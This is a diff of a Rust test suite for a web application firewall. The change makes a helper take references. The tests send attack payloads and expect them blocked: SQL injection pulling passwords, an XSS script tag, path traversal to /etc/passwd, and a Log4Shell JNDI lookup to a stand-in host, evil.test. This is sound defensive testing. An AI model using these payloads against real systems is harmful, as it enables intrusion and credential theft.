@@ -1,4 +1,5 @@
 //! Attacks are blocked, wherever they hide, and each block explains itself.
+#![allow(clippy::unwrap_used, reason = "helpers of tests end them")]
 
 use aegis_testkit::aegis::command;
 use aegis_testkit::{Aegis, Curl, Origin, Reply, eventually};
@@ -37,7 +38,7 @@ fn ask(host: &str, target: &str) -> Curl {
 }
 
 /// The event of a blocked request, after checking that it was, and that the origin never saw it.
-fn blocked(curl: Curl, marker: &str) -> Value {
+fn blocked(curl: &Curl, marker: &str) -> Value {
     let answer = curl.send();
     assert_eq!(answer.status, 403, "{}", curl.typed());
     let id = answer.header("x-request-id").to_owned();
@@ -78,7 +79,7 @@ fn honest_requests_pass() {
 
 #[test]
 fn an_attack_in_the_query_names_rule_variable_and_score() {
-    let event = blocked(ask("shop.test", &format!("/q1?q={SQLI}")), "/q1");
+    let event = blocked(&ask("shop.test", &format!("/q1?q={SQLI}")), "/q1");
     has_rule(&event, "942", "ARGS:q");
     assert_eq!(event["threshold"], 5);
     assert!(event["score"].as_i64().unwrap() >= 5);
@@ -88,14 +89,14 @@ fn an_attack_in_the_query_names_rule_variable_and_score() {
     );
     has_rule(
         &blocked(
-            ask("shop.test", "/q2?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+            &ask("shop.test", "/q2?q=%3Cscript%3Ealert(1)%3C/script%3E"),
             "/q2",
         ),
         "941",
         "ARGS:q",
     );
     has_rule(
-        &blocked(ask("shop.test", "/q3?file=../../../../etc/passwd"), "/q3"),
+        &blocked(&ask("shop.test", "/q3?file=../../../../etc/passwd"), "/q3"),
         "930",
         "",
     );
@@ -104,39 +105,39 @@ fn an_attack_in_the_query_names_rule_variable_and_score() {
 #[test]
 fn an_attack_in_a_body_is_found_in_form_json_xml_and_multipart() {
     let form = ask("shop.test", "/b1").arg(&["--data-urlencode", &format!("user={SQLI_PLAIN}")]);
-    has_rule(&blocked(form, "/b1"), "942", "ARGS:user");
+    has_rule(&blocked(&form, "/b1"), "942", "ARGS:user");
     let json =
         json!({ "deep": [{ "text": "x' UNION SELECT password FROM users -- " }] }).to_string();
     let json = ask("shop.test", "/b2").arg(&["-H", "Content-Type: application/json", "-d", &json]);
-    has_rule(&blocked(json, "/b2"), "942", "ARGS:json.deep");
+    has_rule(&blocked(&json, "/b2"), "942", "ARGS:json.deep");
     let xml = ask("shop.test", "/b3").arg(&[
         "-H",
         "Content-Type: application/xml",
         "-d",
         "<a><b>x' UNION SELECT password FROM users -- </b></a>",
     ]);
-    has_rule(&blocked(xml, "/b3"), "942", "XML");
+    has_rule(&blocked(&xml, "/b3"), "942", "XML");
     let multipart = ask("shop.test", "/b4").arg(&[
         "-F",
         &format!("note={SQLI_PLAIN}"),
         "-F",
         "file=@/etc/hostname",
     ]);
-    has_rule(&blocked(multipart, "/b4"), "942", "ARGS:note");
+    has_rule(&blocked(&multipart, "/b4"), "942", "ARGS:note");
 }
 
 #[test]
 fn an_attack_in_a_cookie_or_header_is_found() {
     has_rule(
         &blocked(
-            ask("shop.test", "/h1").header(&format!("Cookie: id={SQLI_PLAIN}")),
+            &ask("shop.test", "/h1").header(&format!("Cookie: id={SQLI_PLAIN}")),
             "/h1",
         ),
         "942",
         "REQUEST_COOKIES",
     );
     let event = blocked(
-        ask("shop.test", "/h2").header("X-Thing: ${jndi:ldap://evil.test/a}"),
+        &ask("shop.test", "/h2").header("X-Thing: ${jndi:ldap://evil.test/a}"),
         "/h2",
     );
     has_rule(&event, "944", "");
@@ -149,7 +150,7 @@ fn http2_is_judged_like_http1() {
         .curl_tls("shop.test", &format!("/t1?q={SQLI}"))
         .http2()
         .header("User-Agent: Mozilla/5.0");
-    has_rule(&blocked(two, "/t1"), "942", "ARGS:q");
+    has_rule(&blocked(&two, "/t1"), "942", "ARGS:q");
 }
 
 #[test]
@@ -206,7 +207,7 @@ fn a_sites_policy_is_its_own() {
 
 #[test]
 fn own_rules_are_read_after_the_core_rule_set() {
-    let event = blocked(ask("own.test", "/r1?colour=octarine"), "/r1");
+    let event = blocked(&ask("own.test", "/r1?colour=octarine"), "/r1");
     has_rule(&event, "1000001", "ARGS:colour");
     assert_eq!(ask("own.test", "/r2?colour=red").send().status, 200);
     assert_eq!(ask("own.test", &format!("/r3?q={SQLI}")).send().status, 403);
